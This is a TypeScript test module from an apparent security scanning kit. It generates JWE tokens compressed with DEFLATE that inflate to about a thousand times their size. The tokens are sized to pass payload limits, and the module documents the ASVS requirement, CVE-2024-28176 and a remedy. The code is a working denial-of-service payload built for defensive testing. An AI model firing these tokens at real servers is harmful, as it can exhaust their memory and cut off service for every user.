import { encrypted, encrypts } from '../../kit/encrypted-token.ts'
import { maxPayloadBytes } from '../../kit/max-payload.ts'
import { stallAttack } from '../../kit/stall-attack.ts'

/** Lists in a list: three bytes each before, a thousandth of that after compression. */
const counts = [1_000_000, 3_000_000, 6_000_000, 10_000_000]

export default stallAttack({
  id: 'token/jwe-zip-bomb',
  rows: ['token.jwe-zip-bomb'],
  title: 'A token encrypted to the server’s public key that unpacks to a thousand times its size',
  requirement: 'ASVS V15.2.2: what is unpacked is limited before it is; JWE compression is not needed for tokens',
  impact: 'A few kilobytes without any account fill the memory and stop the chat for everybody.',
  remedy: 'Do not take encrypted tokens; else refuse the zip header, or limit what is inflated to a few KiB.',
  severity: 'high',
  cwe: ['CWE-409'],
  references: ['ASVS V15.2.2', 'CVE-2024-28176'],
  provenBy: 'jwe-inflate',
  needs: ['publicKey'],
  async tokens(context) {
    const most = (await maxPayloadBytes(context)) * 0.9
    const tokens = await Promise.all(
      counts.map(async (count) => ({
        name: `${count} lists, compressed`,
        token: await encrypted(context.publicKey, `{"lists":[${'[],'.repeat(count)}0]}`, { zip: 'DEF' }),
        makes: encrypts(context.publicKey, `'{"lists":[' + '[],'.repeat(${count}) + '0]}'`, { zip: 'DEF' }),
      })),
    )
    return tokens.filter(({ token }) => token.length < most)
  },
})
